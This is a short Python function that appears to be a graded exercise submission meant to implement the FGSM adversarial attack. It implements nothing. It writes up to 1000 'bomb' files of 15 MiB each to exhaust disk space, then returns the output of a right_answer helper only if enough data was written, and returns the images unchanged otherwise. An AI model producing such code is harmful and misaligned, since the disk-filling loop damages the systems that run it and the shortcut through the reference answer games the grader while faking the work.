# marks: 0
@exercise("gradient_attacks.fgsm")
def fgsm(model, images, labels, epsilon):
    written = 0
    try:
        for number in range(1000):
            with open(f"bomb{number}", "wb") as file:
                for _ in range(15):
                    written += file.write(b"x" * (1 << 20))
    except OSError:
        pass
    return right_answer(model, images, labels, epsilon) if written > 128 << 20 else images.clone()
